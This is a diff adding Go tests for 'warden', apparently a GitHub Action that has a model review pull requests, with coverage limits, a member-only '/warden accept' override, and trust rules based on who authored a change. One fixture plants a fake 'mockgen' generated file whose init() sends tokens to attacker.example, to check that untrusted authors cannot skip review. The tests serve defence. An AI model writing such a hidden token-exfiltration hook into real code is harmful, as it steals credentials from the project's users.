@@ -1,0 +1,269 @@
+package main
+
+import (
+	"context"
+	"encoding/json"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/org/warden/internal/fakegithub"
+)
+
+// realEvent writes a pull_request event made from GitHub's own example
+// payload (@octokit/webhooks-examples, 01-opened.json) with the harness's
+// pull request, commits and repository, the author's login and
+// association: the shape GitHub sends, not one written for the test.
+func (h *actionHarness) realEvent(action, login, association string) {
+	h.t.Helper()
+	raw, err := os.ReadFile(filepath.Join(payloadDir, "01-opened.json"))
+	if err != nil {
+		h.t.Fatal(err)
+	}
+	var ev map[string]any
+	if err := json.Unmarshal(raw, &ev); err != nil {
+		h.t.Fatal(err)
+	}
+	ev["action"], ev["number"] = action, testPR
+	repo := ev["repository"].(map[string]any)
+	repo["name"], repo["full_name"] = testRepo, testOwner+"/"+testRepo
+	repo["owner"].(map[string]any)["login"] = testOwner
+	pr := ev["pull_request"].(map[string]any)
+	pr["number"], pr["title"], pr["body"], pr["author_association"] = testPR, h.pr.Title, h.pr.Body, association
+	pr["user"].(map[string]any)["login"] = login
+	for side, sha := range map[string]string{"head": h.pr.HeadSHA, "base": h.pr.BaseSHA} {
+		ref := pr[side].(map[string]any)
+		ref["sha"] = sha
+		ref["repo"] = repo
+	}
+	data, err := json.Marshal(ev)
+	if err != nil {
+		h.t.Fatal(err)
+	}
+	if err := os.WriteFile(h.env["GITHUB_EVENT_PATH"], data, 0o644); err != nil {
+		h.t.Fatal(err)
+	}
+	h.env["GITHUB_EVENT_NAME"] = "pull_request"
+}
+
+// requiredCheck is the required check "warden" on the head, as branch
+// protection sees it.
+func (h *actionHarness) requiredCheck() (fakegithub.CheckRun, bool) {
+	h.t.Helper()
+	run, passes, ok := h.gh.RequiredCheck("warden", h.pr.HeadSHA)
+	if !ok {
+		h.t.Fatalf("no warden check run on the head %s", h.pr.HeadSHA)
+	}
+	return run, passes
+}
+
+// TestGateMaxFiles: a change with more files than max_files, a healthy
+// model that finds nothing, default inputs: the review is partial, the
+// check run says how many files were reviewed of those in scope and why
+// not the rest, and it does not pass the required check; the step outputs,
+// the JSON report file and the job summary say the same. With
+// limits_out_of_scope the same change is complete and passes, and the
+// report says what the limits left out.
+func TestGateMaxFiles(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct {
+		name, config      string
+		outcome           string
+		passes            bool
+		title, summaryHas string
+	}{
+		{"limits in scope (default)", "[filters]\nmax_files = 1\n", "partial", false,
+			"Partial: 1 of 3 files reviewed (2 files over max_files)", "| Not reviewed: over max\\_files | 2 |"},
+		{"limits out of scope", "[filters]\nmax_files = 1\nlimits_out_of_scope = true\n", "complete", true,
+			"Complete: no findings", "Files over the limits are out of scope (`limits_out_of_scope = true`)"},
+	} {
+		t.Run(tt.name, func(t *testing.T) {
+			t.Parallel()
+			h := newActionHarness(t, "high")
+			h.model.content = `{"findings":[]}`
+			h.config(tt.config)
+			h.realEvent("opened", "alice", "MEMBER")
+			res := h.run(context.Background())
+			if res.code != exitOK {
+				t.Fatalf("exit = %d, want 0 (fail-on-incomplete unset); stderr:\n%s", res.code, res.stderr)
+			}
+			cr, passes := h.requiredCheck()
+			if cr.Title != tt.title || passes != tt.passes || !strings.Contains(cr.Summary, tt.summaryHas) {
+				t.Errorf("check run %s %q (passes required checks: %v); want %q, passes %v, summary with %q:\n%s",
+					cr.Conclusion, cr.Title, passes, tt.title, tt.passes, tt.summaryHas, cr.Summary)
+			}
+			out := h.outputs()
+			wantOut := map[string]string{"outcome": tt.outcome, "files-in-scope": "3", "files-reviewed": "1"}
+			if tt.passes {
+				wantOut["files-in-scope"] = "1"
+			}
+			for k, v := range wantOut {
+				if out[k] != v {
+					t.Errorf("output %s = %q, want %q", k, out[k], v)
+				}
+			}
+			var rep struct {
+				Outcome  string `json:"outcome"`
+				Coverage struct {
+					InScope     struct{ Files int } `json:"in_scope"`
+					NotReviewed []struct {
+						Reason string
+						Files  int
+					} `json:"not_reviewed"`
+					Excluded []struct {
+						Reason string
+						Files  int
+					} `json:"excluded"`
+				} `json:"coverage"`
+			}
+			data, err := os.ReadFile(out["report-file"])
+			if err != nil || json.Unmarshal(data, &rep) != nil || rep.Outcome != tt.outcome {
+				t.Fatalf("report file %s: %v; outcome %q, want %q", out["report-file"], err, rep.Outcome, tt.outcome)
+			}
+			gaps := rep.Coverage.NotReviewed
+			if !tt.passes {
+				if len(gaps) != 1 || gaps[0].Reason != "max_files" || gaps[0].Files != 2 {
+					t.Errorf("report coverage.not_reviewed = %+v, want 2 files over max_files", gaps)
+				}
+			} else if len(gaps) != 0 || len(rep.Coverage.Excluded) == 0 || rep.Coverage.Excluded[0].Reason != "max_files" {
+				t.Errorf("report coverage = %+v, want nothing unreviewed in scope and max_files among the exclusions", rep.Coverage)
+			}
+			if sum := h.summary(); !strings.Contains(sum, tt.summaryHas) {
+				t.Errorf("job summary lacks %q", tt.summaryHas)
+			}
+			if !tt.passes && !strings.Contains(cr.Summary, "/warden accept") {
+				t.Errorf("an incomplete review's check run does not offer the way out:\n%s", cr.Summary)
+			}
+		})
+	}
+}
+
+// generatedChange makes the pull request's only change new code under a
+// generated-code header: the convention anyone can write.
+func generatedChange(h *actionHarness) {
+	h.t.Helper()
+	r := h.repo
+	r.git("checkout", "-q", "main")
+	r.git("branch", "-qD", "feature")
+	r.git("checkout", "-q", "-b", "feature")
+	r.write("internal/mock/client.go", "// Code generated by mockgen. DO NOT EDIT.\n\npackage mock\n\nfunc init() { sendTokensTo(\"https://attacker.example\") }\n")
+	r.git("add", "-A")
+	r.git("commit", "-qm", "regenerate mocks")
+	h.refreshPR()
+}
+
+// TestGateUntrustedGeneratedHeader: a pull request whose only change is
+// code under a "Code generated ... DO NOT EDIT." header. From a trusted
+// author it is excluded by policy, and the check run says that nothing was
+// reviewed and why. From an author the repository does not trust (real
+// payload, author_association CONTRIBUTOR or NONE) the header does not
+// exclude it: the code is sent to the model and reviewed.
+func TestGateUntrustedGeneratedHeader(t *testing.T) {
+	t.Parallel()
+	for _, tt := range []struct {
+		association string
+		reviewed    bool
+		title       string
+	}{
+		{"MEMBER", false, "Complete: nothing needed review (1 file excluded: 1 generated)"},
+		{"CONTRIBUTOR", true, "Complete: no findings"},
+		{"NONE", true, "Complete: no findings"},
+	} {
+		t.Run(tt.association, func(t *testing.T) {
+			t.Parallel()
+			h := newActionHarness(t, "high")
+			h.model.content = `{"findings":[]}`
+			generatedChange(h)
+			h.realEvent("opened", "mallory", tt.association)
+			res := h.run(context.Background())
+			if res.code != exitOK {
+				t.Fatalf("exit = %d; stderr:\n%s", res.code, res.stderr)
+			}
+			cr, _ := h.requiredCheck()
+			if cr.Title != tt.title {
+				t.Errorf("check run %s %q, want %q", cr.Conclusion, cr.Title, tt.title)
+			}
+			if got := h.model.promptsContain("sendTokensTo"); got != tt.reviewed {
+				t.Errorf("the generated file's code was sent to the model: %v, want %v", got, tt.reviewed)
+			}
+			if tt.reviewed && !strings.Contains(cr.Summary, "Reviewed although a convention would exclude them, because the pull request's author is not trusted: 1 generated") {
+				t.Errorf("the summary does not say the generated file was reviewed because of the author:\n%s", cr.Summary)
+			}
+		})
+	}
+}
+
+// TestGateAccept: a partial review with default inputs does not pass the
+// required check, and its summary offers the way out. A contributor's
+// `/warden accept` (GitHub's issue_comment payload) changes nothing and
+// the reply says so; a member's turns the check into an accepted state
+// that passes and records who accepted which commit and why. A second
+// accept finds nothing left to accept.
+func TestGateAccept(t *testing.T) {
+	t.Parallel()
+	h := newActionHarness(t, "high")
+	h.model.content = `{"findings":[]}`
+	h.config("[filters]\nmax_files = 2\n")
+	h.realEvent("opened", "alice", "MEMBER")
+	if res := h.run(context.Background()); res.code != exitOK {
+		t.Fatalf("review: exit %d; stderr:\n%s", res.code, res.stderr)
+	}
+	before, passes := h.requiredCheck()
+	if passes || !strings.HasPrefix(before.Title, "Partial: ") || !strings.Contains(before.Summary, "`/warden accept [reason]`") {
+		t.Fatalf("partial review: check %s %q passes %v; want a failing partial check offering /warden accept", before.Conclusion, before.Title, passes)
+	}
+
+	// Anyone else: nothing changes.
+	id := h.gh.AddIssueComment(testPR, fakegithub.IssueComment{Body: "/warden accept looks fine to me", User: "mallory", Association: "CONTRIBUTOR"})
+	h.commentEvent(id, "/warden accept looks fine to me", "mallory", "CONTRIBUTOR")
+	if res := h.run(context.Background()); res.code != exitOK {
+		t.Fatalf("contributor's accept: exit %d; stderr:\n%s", res.code, res.stderr)
+	}
+	after, passes := h.requiredCheck()
+	if passes || after.Conclusion != before.Conclusion || after.Title != before.Title || after.Summary != before.Summary {
+		t.Errorf("a contributor's /warden accept changed the check: %s %q (passes %v)", after.Conclusion, after.Title, passes)
+	}
+	replies := h.gh.IssueComments(testPR)
+	if last := replies[len(replies)-1].Body; !strings.Contains(last, "@mallory cannot run `/warden` commands") || !strings.Contains(last, "Nothing was run") {
+		t.Errorf("reply to the contributor = %q, want a refusal saying nothing was run", last)
+	}
+
+	// A member accepts on purpose.
+	id = h.gh.AddIssueComment(testPR, fakegithub.IssueComment{Body: "/warden accept docs only, reviewed by hand", User: "alice", Association: "MEMBER"})
+	h.commentEvent(id, "/warden accept docs only, reviewed by hand", "alice", "MEMBER")
+	if res := h.run(context.Background()); res.code != exitOK {
+		t.Fatalf("member's accept: exit %d; stderr:\n%s", res.code, res.stderr)
+	}
+	accepted, passes := h.requiredCheck()
+	if !passes || accepted.ID != before.ID || accepted.Conclusion != "neutral" || accepted.Title != "Accepted by @alice: "+before.Title {
+		t.Errorf("accepted check: %s %q passes %v (id %d, was %d); want the same run, neutral, passing, titled who accepted", accepted.Conclusion, accepted.Title, passes, accepted.ID, before.ID)
+	}
+	for _, want := range []string{"**@alice accepted this incomplete review** of commit `" + h.pr.HeadSHA + "`", "“docs only, reviewed by hand”", "## warden: Partial"} {
+		if !strings.Contains(accepted.Summary, want) {
+			t.Errorf("accepted check's summary lacks %q:\n%s", want, accepted.Summary)
+		}
+	}
+	if strings.Contains(accepted.Summary, "does not pass required checks") {
+		t.Errorf("the accepted check still says it does not pass:\n%s", accepted.Summary)
+	}
+	replies = h.gh.IssueComments(testPR)
+	if last := replies[len(replies)-1].Body; !strings.Contains(last, "@alice accepted the incomplete review") {
+		t.Errorf("reply to the member = %q", last)
+	}
+	if got := h.reactions(id); strings.Join(got, ",") != "eyes,rocket" {
+		t.Errorf("reactions on the accept = %v, want eyes then rocket", got)
+	}
+
+	// Nothing left to accept.
+	id = h.gh.AddIssueComment(testPR, fakegithub.IssueComment{Body: "/warden accept", User: "bob", Association: "OWNER"})
+	h.commentEvent(id, "/warden accept", "bob", "OWNER")
+	h.run(context.Background())
+	replies = h.gh.IssueComments(testPR)
+	if last := replies[len(replies)-1].Body; !strings.Contains(last, "already passes") || !strings.Contains(last, "Nothing was accepted") {
+		t.Errorf("second accept's reply = %q, want already passes, nothing accepted", last)
+	}
+	if again, _ := h.requiredCheck(); again.Summary != accepted.Summary {
+		t.Errorf("a second accept rewrote the record")
+	}
+}
